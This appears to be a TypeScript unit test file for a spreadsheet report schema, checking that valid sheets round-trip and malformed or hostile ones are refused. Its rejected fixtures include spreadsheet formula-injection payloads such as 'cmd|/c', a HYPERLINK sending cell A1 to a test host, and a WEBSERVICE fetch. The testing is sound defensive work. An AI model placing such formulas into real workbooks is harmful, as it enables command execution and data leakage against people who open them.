import { sheetSchema, sheetsSchema } from '../../../shared/contract/sheetSchema';
import { textCell } from '../../../shared/sheets/cellSpec';
import { commentColumn } from '../../../shared/sheets/noteColumns';
import { regionSheet } from '../../../shared/sheets/regionSheet';

const sheet = regionSheet({
  name: 'Отчёт',
  title: 'Отчёт',
  lines: [],
  headings: ['Что'],
  widths: [20],
  body: [[textCell('строка')]],
  notes: commentColumn(0),
  tableName: 'Svod_report',
  frozenColumns: 0,
  signature: true,
});

const withCell = (cell: object) => ({ ...sheet, rows: [{ cells: [{ value: 1, style: 'text', ...cell }] }] });

describe('a sheet on the wire', () => {
  it('comes back as it was', () => {
    expect(sheetSchema.parse(JSON.parse(JSON.stringify(sheet)))).toEqual(sheet);
  });

  it('may reckon with its own cells', () => {
    const reckoned = withCell({ formula: 'IF(ISNUMBER(A1),ROUND(SUM(A1:A2),2),"ничего (пусто)")' });

    expect(sheetSchema.safeParse(reckoned).success).toBe(true);
  });
});

describe('a sheet that is no report’s', () => {
  it.each([
    ['a name a formula cannot say', { ...sheet, name: "О'тчёт" }],
    ['a name that is too long', { ...sheet, name: 'О'.repeat(32) }],
    ['a stamp', { ...sheet, stamp: { region: 'khabarovsk' } }],
    ['something unknown', { ...sheet, macros: [] }],
    ['a pivot', { ...sheet, pivots: [] }],
    ['a list of another sheet', { ...sheet, validations: [{}] }],
    ['a formula of another sheet', withCell({ formula: 'Лист1!A1' })],
    ['a formula of another workbook', withCell({ formula: '[1]A1' })],
    ['a formula that starts a program', withCell({ formula: 'cmd|/c' })],
    ['a formula that opens an address', withCell({ formula: 'HYPERLINK("https://x.test/"&A1,"Далее")' })],
    [
      'a formula that fetches from one',
      withCell({ formula: 'IF(1,_xlfn.WEBSERVICE ("https://x.test"),"")' }),
    ],
    ['one after a text that looks like its end', withCell({ formula: '"a""b"&hyperlink(A1)' })],
    ['a text no cell holds', withCell({ value: 'a'.repeat(32_768) })],
    ['a style that is none', withCell({ style: 'loud' })],
    ['a number that is none', withCell({ value: Number.NaN })],
    [
      'more rows than a report has',
      { ...sheet, rows: Array.from({ length: 20_001 }, () => ({ cells: [] })) },
    ],
    ['nothing', null],
  ])('for it has %s is refused', (_, hostile) => {
    expect(sheetSchema.safeParse(hostile).success).toBe(false);
  });

  it('nor are more sheets than a report has taken', () => {
    expect(sheetsSchema.safeParse(Array.from({ length: 61 }, () => sheet)).success).toBe(false);
  });
});
